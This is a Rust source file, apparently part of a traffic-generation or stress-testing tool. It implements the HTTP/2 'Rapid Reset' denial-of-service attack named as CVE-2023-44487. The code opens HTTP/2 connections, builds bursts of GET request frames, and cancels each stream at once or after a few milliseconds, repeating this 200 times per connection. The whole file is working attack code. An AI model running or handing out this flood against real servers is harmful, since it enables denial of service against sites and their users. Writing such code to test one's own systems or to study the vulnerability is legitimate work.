//! Requests that the client cancels at once (CVE-2023-44487 is the flood of them): bursts of streams, each
//! reset together with the next write or a moment later.

use std::time::Duration;

use anyhow::{Result, ensure};

use super::attack::{Attack, Bounds};
use crate::http1::Endpoint;
use crate::http2::{CANCEL, END_HEADERS, END_STREAM, HEADERS, Http2, RST_STREAM, frame, literal};
use crate::noise::Dice;

/// Each client sends bursts of this many GETs over one connection and resets them. The host sends
/// the requests of all callers over one connection, so the resets of one caller arrive on the
/// connection that all share.
pub fn cancels(endpoint: Endpoint, target: String, burst: usize, bounds: Bounds) -> Attack {
    Attack::start(bounds, move |shift| {
        let mut dice = Dice::new(shift.number as u64);
        let mut http2 = Http2::connect(&endpoint)?;
        http2.connection().set_patience(PATIENCE)?;
        for _ in 0..BURSTS {
            if shift.is_over() {
                break;
            }
            let (requests, resets) = self::burst(&mut http2, &target, &[], burst)?;
            match dice.below(DELAYS.len()) {
                0 => http2.send_bytes(&[requests, resets].concat())?,
                delay => {
                    http2.send_bytes(&requests)?;
                    shift.pause(Duration::from_millis(DELAYS[delay]));
                    http2.send_bytes(&resets)?;
                }
            }
            shift.sent(burst);
            http2.sync()?;
            ensure!(http2.goaway.is_none(), "the server said goodbye");
        }
        Ok(())
    })
}

/// The frames of this many requests, and those of their resets.
pub fn burst(
    http2: &mut Http2,
    target: &str,
    lines: &[(&str, &str)],
    count: usize,
) -> Result<(Vec<u8>, Vec<u8>)> {
    let (mut requests, mut resets) = (Vec::new(), Vec::new());
    let pseudo = [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", target)];
    let block: Vec<u8> = pseudo.iter().chain(lines).flat_map(|(name, value)| literal(name, value)).collect();
    for _ in 0..count {
        let stream = http2.next_stream();
        requests.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)?);
        resets.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())?);
    }
    Ok((requests, resets))
}

/// The number of bursts on a connection. It is limited because a connection keeps a record of every
/// stream, so its memory grows.
const BURSTS: usize = 200;
/// Milliseconds between a burst and its resets. The first one means that both are sent in one
/// write.
const DELAYS: [u64; 4] = [0, 1, 5, 20];
const PATIENCE: Duration = Duration::from_secs(5);
